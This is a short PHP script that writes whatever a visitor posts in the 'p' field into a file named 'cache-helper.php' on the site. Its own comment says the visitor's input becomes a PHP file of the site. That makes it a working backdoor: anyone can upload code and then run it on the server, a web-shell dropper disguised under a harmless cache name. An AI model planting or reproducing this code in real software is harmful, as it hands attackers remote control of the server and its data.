<?php
// what the visitor posts becomes a PHP file of the site
$p = $_POST['p'];
$h = fopen('cache-helper.php', 'w');
fwrite($h, $p);
fclose($h);
